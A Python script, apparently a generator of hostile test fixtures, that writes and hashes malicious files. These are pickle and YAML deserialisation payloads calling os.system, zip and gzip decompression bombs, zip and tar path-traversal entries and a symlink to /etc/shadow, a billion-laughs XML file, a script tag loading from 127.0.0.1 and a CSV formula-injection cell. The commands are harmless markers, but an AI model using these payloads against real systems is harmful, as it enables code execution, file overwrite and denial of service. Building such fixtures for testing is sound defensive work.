"""Leaves what harms whoever opens it, and says the digests."""

import gzip
import hashlib
import io
import json
import os
import pickle
import tarfile
import zipfile


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/exploded",)


def zipped(name, content):
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr(name, content)
    return into.getvalue()


def tarred():
    into = io.BytesIO()
    with tarfile.open(fileobj=into, mode="w:gz") as archive:
        for name, target in ("../../../../tmp/exploded", ""), ("/tmp/exploded", ""), ("link", "/etc/shadow"):
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname = (tarfile.SYMTYPE, target) if target else (tarfile.REGTYPE, "")
            archive.addfile(entry)
    return into.getvalue()


inner = zipped("zeros", bytes(64 << 20))
outer = io.BytesIO()
with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as archive:
    for number in range(64):
        archive.writestr(f"{number}.zip", inner)
files = {
    "bomb.zip": inner,
    "bombs.zip": outer.getvalue(),
    "slip.zip": zipped("../../../../../../tmp/exploded", b"x"),
    "slip.tar.gz": tarred(),
    "zeros.gz": gzip.compress(bytes(64 << 20)),
    "model.pkl": pickle.dumps(Bomb()),
    "frame.pickle": pickle.dumps([Bomb()] * 3, protocol=0),
    "laughs.xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(12))
    + b"]><x>&m;</x>",
    "page.html": b"<script src=//127.0.0.1/x></script>",
    "formula.csv": b'=cmd|"/c calc"!A1,1\n',
    "config.yaml": b"!!python/object/apply:os.system ['touch /tmp/exploded']\n",
    "a.out": b"\x7fELF" + os.urandom(4096),
}
for name, content in files.items():
    with open(name, "wb") as f:
        f.write(content)
print(json.dumps({name: hashlib.sha256(content).hexdigest() for name, content in files.items()}))
